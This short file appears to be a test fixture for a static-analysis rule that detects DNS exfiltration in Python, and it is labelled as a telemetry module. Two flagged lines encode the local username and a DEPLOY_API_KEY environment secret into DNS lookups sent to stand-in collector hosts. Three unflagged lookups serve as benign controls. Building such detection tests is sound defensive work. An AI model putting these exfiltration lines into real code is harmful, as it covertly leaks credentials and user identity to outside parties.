# fixture: path=pkg/telemetry.py
# resolver calls from Python code: the data travels in the looked-up name
import getpass
import os
import socket
import dns.resolver

who = getpass.getuser()
# ruleid: shell_dns_exfiltration
socket.gethostbyname(who + ".t.collector-zone.example")
deploy_key = os.environ.get("DEPLOY_API_KEY", "")
# ruleid: shell_dns_exfiltration
dns.resolver.resolve("{}.beacon.example.net".format(deploy_key), "TXT")
# ok: shell_dns_exfiltration
own_address = socket.gethostbyname(socket.gethostname())
db_host = os.getenv("DB_HOST", "db")
# ok: shell_dns_exfiltration
socket.getaddrinfo(f"{db_host}.prod.example.org", 5432)
# ok: shell_dns_exfiltration
socket.getaddrinfo(f"{socket.gethostname()}.local", 80)
